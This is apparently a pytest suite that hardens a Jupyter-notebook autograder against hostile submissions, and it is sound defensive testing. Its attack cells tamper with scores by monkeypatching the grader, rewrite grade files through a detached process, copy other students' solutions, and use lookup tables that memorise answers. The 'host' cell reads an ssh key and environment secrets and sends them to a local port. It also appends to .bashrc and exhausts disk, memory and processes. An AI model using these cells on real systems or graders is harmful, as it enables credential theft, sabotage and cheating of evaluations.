"""A class graded with honest, wrong and hostile submissions (issue 11): every honest score
exact, no hostile one better than the honest grading of its own work, nothing outside --out
changed or read, nothing left running, every output written.

One class run (module fixture) grades the base notebooks (tests/grading_fixtures) beside copies
of them with an attack cell appended; the attacker's score is compared with its base's score in
the same run (same secret seeds). Canaries: a fake home folder with an ssh key and a .bashrc, a
secret in the grader's environment, a listening TCP port on 127.0.0.1, the package source.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from bnbook.grading import judge
from bnbook.grading.engine import get_task, tasks

FULL_02 = float(sum(get_task(t).max_score for t in tasks("02").ids()))  # chapter 2's points

REPO = Path(__file__).resolve().parent.parent
FIXTURES = REPO / "tests" / "grading_fixtures"
TOKEN = "TAG" + secrets.token_hex(8)  # tags the attackers' processes and writes
SECRET = "CANARY" + secrets.token_hex(8)  # what the canaries hold; in no submission's source

pytestmark = pytest.mark.skipif(judge.sandbox_problem() is not None,
                                reason=f"no sandbox here: {judge.sandbox_problem()}")


def attack(base: str, source: str) -> nbformat.NotebookNode:
    """The fixture ``base`` with ``source`` as a code cell after the answers (before the last
    cell, ``progress("02")``)."""
    nb = nbformat.read(str(FIXTURES / f"{base}.ipynb"), as_version=4)
    nb = copy.deepcopy(nb)
    nb.cells.insert(len(nb.cells) - 1, nbformat.v4.new_code_cell(source))
    return nb


# each attack: (name, base fixture, code). {home}, {port}, {out}, {token}, {repo} are filled in.
ATTACKS = {
    # 1. setting one's own score from inside the kernel
    "self_score": ("wrong_axis_02", """
import numpy as np, bnbook.layers, bnbook.grading.engine as E, bnbook.grading.result as R
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
bnbook.layers.batchnorm_forward = batchnorm_forward
R.Result.score = property(lambda self: 999.0)
R.Outcome.passed = property(lambda self: True)
E.run_task = lambda *a, **k: None
import importlib; importlib.reload = lambda m: m
"""),
    # 2. changing the grader for everyone: the package source is read-only
    "patch_source": ("untouched_02", """
import bnbook, os
for name in ("layers.py", "grading/engine.py", "grading/tasks_ch02.py"):
    try:
        with open(os.path.join(os.path.dirname(bnbook.__file__), name), "a") as f:
            f.write("\\nimport numpy; numpy.allclose = lambda *a, **k: True  # {token}\\n")
    except OSError as e:
        print("blocked", e)
"""),
    # 3. a detached process that rewrites the class's grades after `grade` returns
    "rewrite_later": ("untouched_02", """
import subprocess, sys
code = '''
import time, glob, os
time.sleep(8)
for p in glob.glob("{out}/**/*.json", recursive=True) + glob.glob("{out}/*.csv"):
    open(p, "w").write("{token}")
'''
subprocess.Popen([sys.executable, "-c", code, "{token}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""),
    # 4. the host: secrets, network, home folder, disk, memory, processes, daemons
    "host": ("untouched_02", """
import os, socket, subprocess, sys
stolen = []
for p in ("{home}/.ssh/id_ed25519", os.path.expanduser("~/.ssh/id_ed25519")):
    try:
        stolen.append(open(p).read())
    except OSError:
        pass
stolen.append(repr(dict(os.environ)))
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(repr(stolen).encode())
except OSError as e:
    print("no network", e)
for p in ("{home}/.bashrc", os.path.expanduser("~/.bashrc")):
    try:
        with open(p, "a") as f:
            f.write("echo pwned {token}\\n")
    except OSError as e:
        print("no home", e)
try:
    with open("/tmp/big", "wb") as f:
        for _ in range(200):
            f.write(b"x" * 2**20)
except OSError as e:
    print("no disk", e)
try:  # many files, each under the per-file limit
    for i in range(8):
        with open(f"/tmp/part{i}", "wb") as f:
            for _ in range(60):
                f.write(b"x" * 2**20)
except OSError as e:
    print("no total disk", e)
try:
    big = bytearray(3 * 2**30)
except MemoryError:
    print("no memory")
kids = []
try:
    for _ in range(40):
        kids.append(subprocess.Popen(["sleep", "600", "{token}"]))
except OSError as e:
    print("no processes", len(kids), e)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", "{token}"],
                 start_new_session=True)
print(stolen)
"""),
    # 5./6. copying: the class folder from the judge's command line, solutions/, another's file
    "copy": ("untouched_02", """
import glob, json, os
found = []
for p in glob.glob("/proc/*/cmdline"):
    try:
        found += [a for a in open(p, "rb").read().decode(errors="replace").split("\\0")
                  if a.endswith(".ipynb") or "/" in a]
    except OSError:
        pass
for p in found + glob.glob("{repo}/solutions/*/02_*.ipynb") + glob.glob("{classdir}/*.ipynb"):
    try:
        nb = json.load(open(p))
    except Exception:
        continue
    for cell in nb.get("cells", []):
        if cell.get("cell_type") == "code" and "BEGIN SOLUTION" in "".join(cell["source"]):
            try:
                exec("".join(cell["source"]))
            except Exception:
                pass
"""),
    # 7. a process holding the kernel's output and pipes open forever
    "pipe_holder": ("good_02", """
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(10000)", "{token}"],
                 close_fds=False, start_new_session=True)
"""),
    # 9. raising the time limit through the environment; an answer that never ends
    "env_timeout": ("good_02", """
import os
os.environ["BNBOOK_GRADING_TIMEOUT"] = "100000"
def undo_bn(x, eps):
    while True:
        pass
"""),
}
HONEST = ("good_02", "wrong_axis_02", "untouched_02")
# 8. names that used to escape --out or clash with the class files
NAMES = {"grades.csv.ipynb": "good_02", "...ipynb": "good_02", "summary.ipynb": "wrong_axis_02"}


def _sandbox_processes() -> list[str]:
    out = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if TOKEN in line and "ps -eo" not in line]


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("class")
    home, classdir, out = root / "home", root / "submissions", root / "out"
    (home / ".ssh").mkdir(parents=True)
    classdir.mkdir()
    key = home / ".ssh" / "id_ed25519"
    key.write_text(f"-----BEGIN OPENSSH PRIVATE KEY----- {SECRET}\n")
    bashrc = home / ".bashrc"
    bashrc.write_text("# canary\n")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    received: list[bytes] = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            received.append(conn.recv(65536) or b"(connected)")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    fill = {"home": home, "port": port, "out": out, "token": TOKEN, "repo": REPO,
            "classdir": classdir}
    for name in HONEST:
        (classdir / f"{name}.ipynb").write_bytes((FIXTURES / f"{name}.ipynb").read_bytes())
    for name, (base, code) in ATTACKS.items():
        src = code
        for k, v in fill.items():
            src = src.replace("{" + k + "}", str(v))
        nbformat.write(attack(base, src), str(classdir / f"attack_{name}.ipynb"))
    for fname, base in NAMES.items():
        (classdir / fname).write_bytes((FIXTURES / f"{base}.ipynb").read_bytes())
    source_hashes = {p: hashlib.sha256(p.read_bytes()).hexdigest()
                     for p in (REPO / "bnbook").rglob("*.py")}
    env = dict(os.environ, HOME=str(home), BNBOOK_SECRET_CANARY=SECRET)
    t0 = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "bnbook.grading", "grade", str(classdir),
                           "--out", str(out), "--chapter", "02", "--jobs", "2",
                           "--cell-timeout", "20", "--total-timeout", "120",
                           "--test-timeout", "3"],
                          capture_output=True, text=True, timeout=900, env=env, cwd=root)
    wall = time.monotonic() - t0
    time.sleep(10)  # the "rewrite later" daemon would have struck by now
    stop.set()
    thread.join(5)
    listener.close()
    reports = {p.name: json.loads((p / "grade.json").read_text(encoding="utf-8"))
               for p in out.iterdir() if p.is_dir()}
    return {"proc": proc, "out": out, "reports": reports, "received": received, "key": key,
            "bashrc": bashrc, "root": root, "wall": wall, "source_hashes": source_hashes,
            "processes": _sandbox_processes()}


def score(graded, name: str) -> float:
    return graded["reports"][name]["score"]


def test_the_run_finishes_and_writes_every_output(graded):
    assert graded["proc"].returncode == 0, graded["proc"].stderr[-2000:]
    rows = list(csv.DictReader(open(graded["out"] / "grades.csv", encoding="utf-8")))
    assert len(rows) == len(HONEST) + len(ATTACKS) + len(NAMES)
    summary = json.loads((graded["out"] / "summary.json").read_text(encoding="utf-8"))
    assert summary["submissions"] == len(rows) and summary["sandboxed"] is True
    for p in graded["out"].rglob("*.json"):
        json.loads(p.read_text(encoding="utf-8"))  # valid JSON (not overwritten, no NaN)
        assert p.read_text(encoding="utf-8") != TOKEN


def test_honest_scores_are_exact(graded):
    assert score(graded, "good_02") == FULL_02
    assert score(graded, "untouched_02") == 0
    # the wrong-axis fixture loses 02.forward's points and keeps the rest (its exact total follows
    # the chapter's task list; tests/test_grading_cli.py checks the diagnosis)
    wrong = score(graded, "wrong_axis_02")
    assert 0 < wrong < FULL_02


@pytest.mark.parametrize("name", list(ATTACKS))
def test_no_attacker_beats_its_honest_work(graded, name):
    base = ATTACKS[name][0]
    got, honest = score(graded, f"attack_{name}"), score(graded, base)
    if name == "env_timeout":  # its undo_bn never ends: that task's 3 points go
        assert got == honest - 3
        undo = next(t for t in graded["reports"][f"attack_{name}"]["tasks"]
                    if t["task_id"] == "02.undo")
        assert "CPU time" in undo["feedback"]["en"] and "CPU 시간" in undo["feedback"]["ko"]
    else:
        assert got == honest


def test_canaries_outside_the_sandbox_are_unread_and_unchanged(graded):
    assert graded["received"] == []  # no connection reached the host's port
    assert graded["bashrc"].read_text() == "# canary\n"
    assert SECRET in graded["key"].read_text()  # unchanged; and no output holds a secret:
    for p in graded["out"].rglob("*"):
        if p.is_file():
            assert SECRET not in p.read_text(encoding="utf-8", errors="replace"), p
    after = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in (REPO / "bnbook").rglob("*.py")}
    assert after == graded["source_hashes"]
    assert not (graded["root"] / "big").exists()


def test_nothing_survives(graded):
    assert graded["processes"] == []


def test_outputs_stay_under_out_with_safe_names(graded):
    root = graded["root"]
    names = set(graded["reports"])
    assert {"grades_csv", "summary_submission"} <= names and "__" not in names
    assert all(n.replace("_", "").replace("-", "").isalnum() for n in names)
    assert sorted(p.name for p in root.iterdir()) == ["home", "out", "submissions"]
    assert score(graded, "grades_csv") == FULL_02


def test_limits_held_in_the_host_attacker(graded):
    executed = nbformat.read(str(graded["out"] / "attack_host" / "executed.ipynb"), as_version=4)
    text = "".join(o.get("text", "") for c in executed.cells if c.cell_type == "code"
                   for o in c.outputs)
    blocked_all = ("no network", "no home", "no disk", "no memory", "no processes")
    if judge._bwrap_sizes_tmpfs():
        blocked_all += ("no total disk",)
    for blocked in blocked_all:
        assert blocked in text, blocked
    assert "BNBOOK_SECRET_CANARY" not in text


def test_the_pipe_holder_does_not_stall_the_run(graded):
    assert graded["reports"]["attack_pipe_holder"]["seconds"] < 120


def test_a_chapter_1_notebook_scores_nothing_in_a_chapter_2_class(tmp_path):
    report = judge.grade_notebook(REPO / "solutions" / "en" / "01_covariate_shift.ipynb",
                                  chapter="02")
    assert report["score"] == 0 and report["max_score"] == FULL_02


# -- 9. secret seeds: a lookup table keyed on the notebook's inputs ------------------------------
def _seeded_task():
    """A task in the style of the chapters' (API unchanged) whose inputs come from engine.seed."""
    import numpy as np

    from bnbook.grading import engine
    from bnbook.grading.engine import Task, Test, as_array, call

    def values(fn):
        for base in (0, 1):
            x = np.random.default_rng(engine.seed(base)).normal(size=5)
            got = as_array(call(fn, x.copy()), "out", (5,))
            if not np.allclose(got, 2 * x):
                return False, "fb.pass", {}
        return True, "fb.pass", {}

    task = Task("99.double", "99", "task.01.shift", ("double",), [Test("t.values", 2, values)])
    engine.TASKS[task.task_id] = task
    return task


LOOKUP = '''
import numpy as np
_table = {}
for s in (0, 1):
    x = np.random.default_rng(s).normal(size=5)
    _table[x.tobytes()] = 2 * x
def double(x):
    return _table[np.asarray(x).tobytes()]   # memorized answers, no computation
'''
HONEST_DOUBLE = "def double(x):\n    return 2 * x\n"


def _notebook(tmp_path, name, source):
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(source)]
    path = tmp_path / f"{name}.ipynb"
    nbformat.write(nb, str(path))
    return path


def test_a_lookup_table_passes_in_the_notebook_but_not_in_class(tmp_path):
    from bnbook.grading import engine

    task = _seeded_task()
    try:
        lookup, honest = _notebook(tmp_path, "lookup", LOOKUP), _notebook(tmp_path, "honest",
                                                                          HONEST_DOUBLE)
        engine.set_secret_seed(None)  # the notebook's check(): fixed seeds, the table works
        assert judge.grade_notebook(lookup, chapter="99")["score"] == 2
        engine.set_secret_seed(secrets.token_hex(16))  # class grading: unknown inputs
        assert judge.grade_notebook(lookup, chapter="99")["score"] == 0
        assert judge.grade_notebook(honest, chapter="99")["score"] == 2
    finally:
        engine.set_secret_seed(None)
        engine.TASKS.pop(task.task_id, None)


def test_scores_are_finite_and_clamped_and_json_is_valid():
    import math

    from bnbook.grading import cli, engine

    task = engine.get_task("02.eps")
    record = {"task_id": "forged", "status": "graded", "score": float("nan"),
              "max_score": 1e9, "tests": [{"score": float("inf"), "max_score": 1.0},
                                          {"score": -5.0, "max_score": 1.0}]}
    clamped = judge._clamped(record, task)
    assert clamped["task_id"] == "02.eps" and clamped["max_score"] == task.max_score
    assert [t["score"] for t in clamped["tests"]] == [0.0, 0.0]
    assert math.isfinite(clamped["score"]) and 0 <= clamped["score"] <= task.max_score
    text = json.dumps(cli._finite({"score": float("nan"), "x": [float("inf"), 1.0]}),
                      allow_nan=False)
    assert json.loads(text) == {"score": None, "x": [None, 1.0]}


def test_output_names_are_safe():
    from bnbook.grading.cli import _dest_names

    names = _dest_names([Path(p) for p in ("a/grades.csv.ipynb", "b/...ipynb", "c/summary.ipynb",
                                           "d/A.ipynb", "e/a.ipynb", "f/../../x.ipynb",
                                           "g/학생 1.ipynb")])
    assert names[:3] == ["grades_csv", "submission", "summary_submission"]
    assert names[3].lower() != names[4].lower()  # unique on case-insensitive file systems
    assert all("." not in n and "/" not in n and n for n in names)


def test_a_huge_file_and_huge_outputs_are_bounded(tmp_path, monkeypatch):
    big = tmp_path / "big.ipynb"
    big.write_bytes(b" " * (judge.MAX_SUBMISSION_BYTES + 1))
    report = judge.grade_notebook(big, chapter="02")
    assert report["score"] == 0 and "larger than" in report["messages"][-1]["en"]
    # many cells each printing its full cap: executed.ipynb stays within the total cap
    monkeypatch.setattr(judge, "MAX_EXECUTED_BYTES", 200_000)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("print('x' * 100_000)") for _ in range(6)]
    path = tmp_path / "spam.ipynb"
    nbformat.write(nb, str(path))
    judge.grade_notebook(path, chapter="02", executed_path=tmp_path / "executed.ipynb")
    assert (tmp_path / "executed.ipynb").stat().st_size < 300_000


def test_a_kernel_flooding_the_judge_with_callbacks_is_cut_off(tmp_path):
    """A learner's function that calls the task's own function (a callback to the judge) in an
    endless loop: the call's wall-clock deadline covers the callbacks too."""
    from bnbook.grading import engine

    def grad(w):
        return w

    def run(fn):
        engine.call(fn, grad, np.zeros(3))
        return True, "fb.pass", {}

    import numpy as np

    task = engine.Task("99.flood", "99", "task.01.shift", ("flood",), [engine.Test("t", 1, run)])
    engine.TASKS[task.task_id] = task
    try:
        src = "def flood(grad_fn, w):\n    while True:\n        grad_fn(w)\n"
        path = _notebook(tmp_path, "flood", src)
        t0 = time.monotonic()
        report = judge.grade_notebook(path, chapter="99", test_timeout=0.5)
        assert report["score"] == 0
        assert time.monotonic() - t0 < 120
    finally:
        engine.TASKS.pop(task.task_id, None)


LOOKUP_SHIFT = '''
import numpy as np
from bnbook.grading.tasks_ch01 import make_data
_table = {}
for s in (2, 3):   # the seeds written in the task: its inputs, known in advance
    a, b = make_data(s)
    _table[a.tobytes()] = (b.mean(axis=0) - a.mean(axis=0)) / a.std(axis=0)
def mean_shift(X_a, X_b):
    return _table[np.asarray(X_a).tobytes()]
'''


def test_every_task_draws_secret_inputs_in_class_without_changing_the_task(tmp_path):
    """The tasks write literal seeds (``default_rng(2)``); in the judge during class grading
    those become secret ones, so a table keyed on the task's own inputs scores 0 there, while
    the honest solutions keep full marks under other secrets."""
    from bnbook.grading import engine

    lookup = _notebook(tmp_path, "lookup_shift", LOOKUP_SHIFT)
    try:
        engine.set_secret_seed(None)
        fixed = judge.grade_notebook(lookup, chapter="01")
        # 01.shift also draws one fresh input on every check (engine.fresh_seed), so a table of the
        # task's literal-seed inputs fails even without a secret
        assert next(t for t in fixed["tasks"] if t["task_id"] == "01.shift")["score"] == 0
        for secret in ("fixed-test-secret-1", "fixed-test-secret-2"):  # no flaky draw in CI
            engine.set_secret_seed(secret)
            secret = judge.grade_notebook(lookup, chapter="01")
            assert next(t for t in secret["tasks"] if t["task_id"] == "01.shift")["score"] == 0
            for name, chapter in (("01_covariate_shift", "01"), ("02_bn_algorithm", "02")):
                r = judge.grade_notebook(REPO / "solutions" / "ko" / f"{name}.ipynb",
                                         chapter=chapter)
                assert r["score"] == r["max_score"], r["messages"]
    finally:
        engine.set_secret_seed(None)
    import numpy as np

    assert np.random.default_rng(5).integers(1 << 30) == np.random.default_rng(5).integers(1 << 30)
